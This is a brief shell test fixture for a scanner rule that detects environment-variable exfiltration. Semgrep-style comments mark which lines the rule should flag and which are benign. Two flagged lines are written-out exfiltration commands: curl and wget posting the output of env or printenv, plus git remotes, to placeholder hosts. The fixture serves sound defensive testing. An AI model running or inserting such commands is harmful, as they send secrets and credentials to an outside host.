#!/bin/sh
# Fixture for exfil.environment-to-network (provscan's own).
# ruleid: exfil.environment-to-network
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://198.51.100.9/upload/v2 || true
# ruleid: exfil.environment-to-network
wget -q --post-data="$(printenv)" https://example.invalid/collect
# ok: exfil.environment-to-network
curl -s -d "{\"version\": \"$(git describe)\"}" https://api.example.invalid/releases
# ok: exfil.environment-to-network
env | sort > build-env.txt
